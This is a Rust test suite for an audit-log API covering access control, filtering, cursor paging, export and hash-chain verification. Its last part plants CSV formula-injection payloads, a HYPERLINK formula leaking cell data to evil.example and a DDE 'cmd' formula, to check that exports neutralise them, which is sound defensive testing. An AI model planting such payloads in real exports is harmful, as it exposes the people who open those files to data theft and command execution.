//! The Audit Log API: who may read it, filters, cursors that hold while
//! records arrive, export, verification, and that reads are recorded too.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::support::{Resp, TestApp, user};

const LOGS: &str = "/api/v1/audit-logs";

fn seqs(r: &Resp) -> Vec<i64> {
    r.body["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["seq"].as_i64().unwrap())
        .collect()
}

#[tokio::test]
async fn readers_are_audit_sats_and_admins_only() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    assert_eq!(app.get(LOGS, &s).await.status, 200, "admins read");
    let (_, reader) = app
        .create_sat(
            &s,
            json!({ "name": "siem", "permissions": ["audit_logs:read"] }),
        )
        .await;
    let r = app.get(LOGS, &reader).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let (_, scim) = app
        .create_sat(&s, json!({ "name": "idp", "permissions": ["scim:read"] }))
        .await;
    let denied = app.get(LOGS, &scim).await;
    denied.assert_problem(403);
    assert_eq!(denied.body["missing_permission"], "audit_logs:read");
    let (_, member) = app.signed_in_member("default", "plain", "member").await;
    app.get(LOGS, &member).await.assert_problem(403);

    // Another organization's records are not found.
    let record_id = r.body["records"][0]["id"].as_str().unwrap().to_string();
    let (_, eve) = {
        app.cli(&["org", "create", "other"]).await;
        app.signed_in_member("other", "eve", "admin").await
    };
    app.get(&format!("{LOGS}/{record_id}"), &eve)
        .await
        .assert_problem(404);
    let one = app.get(&format!("{LOGS}/{record_id}"), &reader).await;
    assert_eq!(one.status, 200);
    assert_eq!(one.body["id"], record_id.as_str());
    assert_eq!(one.body["hash"].as_str().unwrap().len(), 64);
    let theirs = app.get(LOGS, &eve).await;
    assert!(
        theirs.body["records"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["id"] != record_id.as_str())
    );
    let our_org = app.org_of(&s).await;
    assert!(
        theirs.body["records"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["org_id"] != our_org.as_str())
    );
}

#[tokio::test]
async fn filters_select_what_they_name() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    let scim = app.scim().await;
    let ws = app.create_workspace(&s, "prod").await;
    let uid = scim.create_user(user("a@example.com")).await;
    let _ = scim.post("/Users", user("a@example.com")).await;
    app.get("/api/v1/tokens/self", "scim_sat_nonsense").await;
    let (_, reader) = app
        .create_sat(
            &s,
            json!({ "name": "siem", "permissions": ["audit_logs:read"] }),
        )
        .await;

    let get = |q: &str| {
        let reader = reader.clone();
        let app = &app;
        let q = q.to_string();
        async move { app.get(&format!("{LOGS}?{q}"), &reader).await }
    };
    let actions = |r: &Resp| -> BTreeSet<String> {
        r.body["records"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["action"].as_str().unwrap().to_string())
            .collect()
    };
    let r = get("action=scim.user.*").await;
    assert!(
        actions(&r).iter().all(|a| a.starts_with("scim.user.")),
        "{:?}",
        actions(&r)
    );
    assert!(actions(&r).contains("scim.user.create"));
    let r = get("action=workspace.create").await;
    assert_eq!(r.body["records"].as_array().unwrap().len(), 1);
    assert_eq!(r.body["records"][0]["workspace_id"], ws.as_str());
    let r = get(&format!("workspace_id={ws}")).await;
    assert!(
        r.body["records"]
            .as_array()
            .unwrap()
            .iter()
            .all(|x| x["workspace_id"] == ws.as_str())
    );
    let r = get(&format!("target_type=user&target_id={uid}")).await;
    assert!(actions(&r).contains("scim.user.create"), "{}", r.text);
    let r = get("outcome=failure").await;
    assert!(
        r.body["records"]
            .as_array()
            .unwrap()
            .iter()
            .all(|x| x["outcome"] == "failure")
    );
    assert!(
        actions(&r).contains("scim.user.create"),
        "the refused duplicate is a failure: {:?}",
        actions(&r)
    );
    let r = get("actor_type=sat&outcome=success").await;
    assert!(
        r.body["records"]
            .as_array()
            .unwrap()
            .iter()
            .all(|x| x["actor_kind"] == "sat")
    );
    let future = "2999-01-01T00:00:00Z";
    assert_eq!(
        get(&format!("since={future}")).await.body["records"],
        json!([])
    );
    let r = get(&format!("until={future}&limit=3&order=desc")).await;
    let got = seqs(&r);
    assert_eq!(got.len(), 3);
    assert!(got.windows(2).all(|w| w[0] > w[1]), "{got:?}");
    for bad in [
        "limit=0",
        "limit=5000",
        "order=up",
        "since=yesterday",
        "actor_type=cat",
        "cursor=x",
        "colour=red",
    ] {
        get(bad).await.assert_problem(400);
    }
}

/// Paging while writers add records yields each record exactly once, and
/// polling with the last cursor returns only what is new.
#[tokio::test]
async fn cursors_hold_while_records_arrive() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    let (_, reader) = app
        .create_sat(
            &s,
            json!({ "name": "siem", "permissions": ["audit_logs:read"] }),
        )
        .await;
    let org = app.org_of(&s).await;
    let writers: Vec<_> = (0..4)
        .map(|w| {
            let client = app.client.clone();
            let url = app.url("/api/v1/workspaces");
            let s = s.clone();
            tokio::spawn(async move {
                for i in 0..10 {
                    let r = client
                        .post(&url)
                        .bearer_auth(&s)
                        .json(&json!({ "name": format!("w{w}-{i}") }))
                        .send()
                        .await
                        .unwrap();
                    assert_eq!(r.status(), 201);
                }
            })
        })
        .collect();
    let mut seen: Vec<i64> = Vec::new();
    let mut cursor: Option<String> = None;
    for _ in 0..200 {
        let q = match &cursor {
            Some(c) => format!("{LOGS}?limit=7&action=workspace.create&cursor={c}"),
            None => format!("{LOGS}?limit=7&action=workspace.create"),
        };
        let r = app.get(&q, &reader).await;
        assert_eq!(r.status, 200, "{}", r.text);
        let link = r.header("link").expect("a Link header").to_string();
        assert!(
            link.contains("rel=\"next\"") && link.contains("cursor="),
            "{link}"
        );
        seen.extend(seqs(&r));
        cursor = r.body["next_cursor"].as_str().map(str::to_string);
        if writers.iter().all(|w| w.is_finished())
            && r.body["records"].as_array().unwrap().is_empty()
        {
            break;
        }
    }
    for w in writers {
        w.await.unwrap();
    }
    // Drain what arrived after the last page.
    loop {
        let r = app
            .get(
                &format!(
                    "{LOGS}?limit=7&action=workspace.create&cursor={}",
                    cursor.clone().unwrap()
                ),
                &reader,
            )
            .await;
        if r.body["records"].as_array().unwrap().is_empty() {
            break;
        }
        seen.extend(seqs(&r));
        cursor = r.body["next_cursor"].as_str().map(str::to_string);
    }
    // Times never go backwards along the chain, even with concurrent writers.
    let all = app.audit_records(&org).await;
    let times: Vec<&str> = all
        .iter()
        .map(|r| r["occurred_at"].as_str().unwrap())
        .collect();
    let parsed: Vec<scimitar::store::Timestamp> = times
        .iter()
        .map(|t| scimitar::store::Timestamp::parse_rfc3339(t).unwrap())
        .collect();
    assert!(
        parsed.windows(2).all(|w| w[0] <= w[1]),
        "occurred_at is monotonic in seq"
    );
    // A time window is exactly the records inside it.
    let mid = &all[all.len() / 2];
    let since = mid["occurred_at"].as_str().unwrap();
    let until = all[all.len() * 3 / 4]["occurred_at"].as_str().unwrap();
    let q = serde_urlencoded::to_string([("since", since), ("until", until), ("limit", "1000")])
        .unwrap();
    let window = app.get(&format!("{LOGS}?{q}"), &reader).await;
    let got: Vec<i64> = seqs(&window);
    let s_t = scimitar::store::Timestamp::parse_rfc3339(since).unwrap();
    let u_t = scimitar::store::Timestamp::parse_rfc3339(until).unwrap();
    let expected: Vec<i64> = all
        .iter()
        .zip(parsed.iter())
        .filter(|(_, t)| **t >= s_t && **t < u_t)
        .map(|(r, _)| r["seq"].as_i64().unwrap())
        .collect();
    assert_eq!(got, expected, "the window holds exactly its records");
    let unique: BTreeSet<i64> = seen.iter().copied().collect();
    assert_eq!(unique.len(), seen.len(), "no duplicates");
    assert_eq!(seen.len(), 40, "no gaps: every workspace.create seen once");
    assert!(seen.windows(2).all(|w| w[0] < w[1]), "ascending");
    // Polling with the last cursor returns only what is new.
    app.create_workspace(&s, "late").await;
    let r = app
        .get(
            &format!("{LOGS}?action=workspace.create&cursor={}", cursor.unwrap()),
            &reader,
        )
        .await;
    assert_eq!(r.body["records"].as_array().unwrap().len(), 1);
    assert_eq!(r.body["records"][0]["target_display"], "late");
    assert!(
        scimitar::audit::verify_chain(app.db(), &org)
            .await
            .unwrap()
            .ok
    );
}

#[tokio::test]
async fn reads_and_failures_are_recorded_too() {
    let app = TestApp::spawn().await;
    let scim = app.scim().await;
    let uid = scim.create_user(user("r@example.com")).await;
    scim.get(&format!("/Users/{uid}")).await;
    scim.filter("/Users", "userName eq \"r@example.com\"").await;
    scim.get(&format!("/Users/{}", uuid::Uuid::new_v4())).await;
    let s = app.admin_session().await;
    app.get(LOGS, &s).await;
    let org = app.org_of(&s).await;
    let records = app.audit_records(&org).await;
    let find = |action: &str| {
        records
            .iter()
            .filter(|r| r["action"] == action)
            .cloned()
            .collect::<Vec<Value>>()
    };
    let reads = find("scim.user.read");
    assert_eq!(reads.len(), 2, "one found, one not found");
    assert_eq!(reads[0]["outcome"], "success");
    assert_eq!(reads[0]["actor_kind"], "sat");
    assert_eq!(reads[0]["http_status"], 200);
    assert_eq!(reads[1]["outcome"], "failure");
    assert_eq!(reads[1]["http_status"], 404);
    assert_eq!(find("scim.user.list").len(), 1);
    assert_eq!(
        find("audit_logs.list").len(),
        1,
        "reading the log is itself recorded"
    );
    assert!(
        find("scim.user.list")[0]["target_id"]
            .as_str()
            .unwrap()
            .starts_with("GET /scim/v2/Users")
    );
}

#[tokio::test]
async fn export_streams_every_matching_record_and_resumes() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    for i in 0..15 {
        app.create_workspace(&s, &format!("w{i}")).await;
    }
    let org = app.org_of(&s).await;
    let nd = app
        .get(&format!("{LOGS}/export?action=workspace.create"), &s)
        .await;
    assert_eq!(nd.status, 200);
    assert_eq!(nd.header("content-type"), Some("application/x-ndjson"));
    let lines: Vec<Value> = nd
        .text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 15);
    assert!(lines.iter().all(|l| l["action"] == "workspace.create"
        && l["hash"].is_string()
        && l["prev_hash"].is_string()));
    let resume_after = lines[9]["seq"].as_i64().unwrap();
    let rest = app
        .get(
            &format!("{LOGS}/export?action=workspace.create&cursor={resume_after}"),
            &s,
        )
        .await;
    assert_eq!(rest.text.lines().count(), 5);
    let csv = app
        .get(
            &format!("{LOGS}/export?format=csv&action=workspace.create"),
            &s,
        )
        .await;
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    let mut rows = csv.text.lines();
    assert!(rows.next().unwrap().starts_with("id,chain,seq,"));
    assert_eq!(rows.count(), 15);
    app.get(&format!("{LOGS}/export?format=xml"), &s)
        .await
        .assert_problem(400);

    // The whole chain, exported, verifies record by record.
    let all = app.get(&format!("{LOGS}/export"), &s).await;
    let mut prev = "0".repeat(64);
    for line in all.text.lines() {
        let r: scimitar::audit::StoredEvent = serde_json::from_str(line).unwrap();
        assert_eq!(scimitar::store::settings::to_hex(&r.prev_hash), prev);
        assert_eq!(r.compute_hash(), r.hash, "seq {}", r.seq);
        prev = scimitar::store::settings::to_hex(&r.hash);
    }
    let _ = org;
}

#[tokio::test]
async fn verify_reports_ok_or_the_first_broken_link() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    for i in 0..5 {
        app.create_workspace(&s, &format!("w{i}")).await;
    }
    let org = app.org_of(&s).await;
    let ok = app.get(&format!("{LOGS}/verify"), &s).await;
    assert_eq!(ok.status, 200, "{}", ok.text);
    assert_eq!(ok.body["ok"], true);
    let part = app
        .get(&format!("{LOGS}/verify?from_seq=3&to_seq=5"), &s)
        .await;
    assert_eq!(part.body["records"], 3);
    assert_eq!(part.body["anchored"], true);
    scimitar::on_db!(app.db(), pool => {
        sqlx::query("UPDATE audit_events SET actor_display = 'mallory' WHERE chain = $1 AND seq = 4")
            .bind(&org)
            .execute(pool)
            .await
            .map(|_| ())
    })
    .unwrap();
    let broken = app.get(&format!("{LOGS}/verify"), &s).await;
    assert_eq!(broken.body["ok"], false);
    assert_eq!(broken.body["first_break"]["kind"], "hash_mismatch");
    assert_eq!(broken.body["first_break"]["seq"], 4);
    app.get(&format!("{LOGS}/verify?from_seq=0"), &s)
        .await
        .assert_problem(400);
    app.get(&format!("{LOGS}/verify?from_seq=5&to_seq=2"), &s)
        .await
        .assert_problem(400);
}

/// Action prefixes are served from the action index (one range per action
/// the prefix names) or, for a prefix naming many actions, by reading the
/// chain in order: either way, paging with a cursor yields exactly the
/// records of a plain walk of the chain whose action has the prefix.
#[tokio::test]
async fn action_prefixes_page_exactly_like_a_walk_of_the_chain() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    let scim = app.scim().await;
    for i in 0..4 {
        let id = scim.create_user(user(&format!("p{i}@example.com"))).await;
        scim.get(&format!("/Users/{id}")).await;
        if i % 2 == 0 {
            scim.delete(&format!("/Users/{id}")).await;
        }
    }
    let kept = scim.create_user(user("kept@example.com")).await;
    scim.patch(
        &format!("/Users/{kept}"),
        crate::support::patch_op(json!([{ "op": "replace", "path": "title", "value": "x" }])),
    )
    .await;
    scim.put(&format!("/Users/{kept}"), user("kept@example.com"))
        .await;
    scim.get("/Users").await;
    scim.get("/ServiceProviderConfig").await;
    scim.post(
        "/.search",
        json!({ "schemas": ["urn:ietf:params:scim:api:messages:2.0:SearchRequest"] }),
    )
    .await;
    scim.create_group(
        json!({ "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"], "displayName": "g" }),
    )
    .await;
    app.create_workspace(&s, "ws").await;
    app.get("/api/v1/tokens/self", &s).await;
    app.get("/api/v1/service-access-tokens", &s).await;
    app.get(LOGS, &s).await;
    let (_, reader) = app
        .create_sat(
            &s,
            json!({ "name": "siem", "permissions": ["audit_logs:read"] }),
        )
        .await;
    // Everything recorded so far, oldest first.
    let all = app.get(&format!("{LOGS}?limit=1000"), &reader).await;
    let chain: Vec<(i64, String)> = all.body["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["seq"].as_i64().unwrap(),
                r["action"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let last = chain.last().unwrap().0;
    let distinct: BTreeSet<&str> = chain.iter().map(|(_, a)| a.as_str()).collect();
    // More actions than one page merges index ranges for, so that `*`
    // reads the chain in order while `scim.*` merges ranges.
    assert!(
        distinct.len() > 16,
        "{} actions: {distinct:?}",
        distinct.len()
    );
    let scim_actions = distinct.iter().filter(|a| a.starts_with("scim.")).count();
    assert!((2..=16).contains(&scim_actions), "{distinct:?}");

    for prefix in [
        "scim.",
        "scim.user.",
        "scim.gr",
        "workspace",
        "nothing.",
        "",
    ] {
        for order in ["asc", "desc"] {
            let mut want: Vec<i64> = chain
                .iter()
                .filter(|(_, a)| a.starts_with(prefix))
                .map(|(seq, _)| *seq)
                .collect();
            if order == "desc" {
                want.reverse();
            }
            let mut got = Vec::new();
            let mut cursor = String::new();
            let mut pages = 0;
            loop {
                let r = app
                    .get(
                        &format!("{LOGS}?action={prefix}*&limit=3&order={order}{cursor}"),
                        &reader,
                    )
                    .await;
                assert_eq!(r.status, 200, "{}", r.text);
                got.extend(seqs(&r));
                // In ascending order there is always a cursor to poll with;
                // a short page is the end of what exists now.
                match r.body["next_cursor"].as_str() {
                    Some(c) if seqs(&r).len() == 3 => cursor = format!("&cursor={c}"),
                    _ => break,
                }
                pages += 1;
                assert!(
                    pages < 200,
                    "paging does not end: action={prefix}* order={order}"
                );
            }
            // Reading records records reads, after `last`.
            got.retain(|seq| *seq <= last);
            assert_eq!(got, want, "action={prefix}* order={order}");
        }
    }
}

/// The cells of a CSV text (RFC 4180: quoted cells may hold separators,
/// doubled quotes and line breaks), row by row.
pub fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(ch) = chars.next() {
        match (quoted, ch) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// The probe's vector: a sign-in that needs no credential plants a formula
/// in the User-Agent and the user name. Every export must show it as text.
pub const FORMULA_AGENT: &str = "=HYPERLINK(\"http://evil.example/leak?d=\"&A2,\"Click\")";
pub const FORMULA_USER: &str = "=cmd|' /C calc'!A0";

/// Plants the vector (and a workspace named like a formula) in `default`.
pub async fn plant_formulas(app: &TestApp, session: &str) {
    let r = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .header("user-agent", FORMULA_AGENT)
        .json(&json!({ "organization": "default", "user_name": FORMULA_USER, "password": "whatever it is" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    app.create_workspace(session, "+SUM(1,2)").await;
    app.create_workspace(session, "@formula").await;
}

/// No cell of a CSV export may start like a formula; the planted values are
/// there, as text behind a `'`.
pub fn assert_formulas_defused(csv: &str) {
    let rows = csv_cells(csv);
    assert!(rows.len() > 1, "{csv}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell would run as a formula: {cell:?}"
            );
        }
    }
    let all: Vec<&String> = rows.iter().flatten().collect();
    for planted in [FORMULA_AGENT, "+SUM(1,2)", "@formula"] {
        let text = format!("'{planted}");
        assert!(
            all.iter().any(|c| **c == text),
            "{planted} not kept as text in {csv}"
        );
    }
    assert!(
        all.iter().any(|c| c.contains(FORMULA_USER)),
        "the user name is kept (as text) in {csv}"
    );
}

#[tokio::test]
async fn csv_exports_never_carry_a_live_formula() {
    let app = TestApp::spawn().await;
    let s = app.admin_session().await;
    plant_formulas(&app, &s).await;
    let csv = app.get(&format!("{LOGS}/export?format=csv"), &s).await;
    assert_eq!(csv.status, 200);
    assert_formulas_defused(&csv.text);
    // The NDJSON export, which is verified by hash, keeps values as they were.
    let ndjson = app.get(&format!("{LOGS}/export"), &s).await;
    assert!(
        ndjson.text.contains("\"user_agent\":\"=HYPERLINK("),
        "{}",
        ndjson.text
    );

    // The operator CLI's export is the same encoder.
    let dir = std::env::temp_dir().join(format!("scimitar-csv-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("export.csv");
    let out = app
        .cli(&[
            "audit",
            "export",
            "--org",
            "default",
            "--format",
            "csv",
            "--output",
            file.to_str().unwrap(),
        ])
        .await;
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_formulas_defused(&std::fs::read_to_string(&file).unwrap());
    std::fs::remove_dir_all(&dir).ok();
}
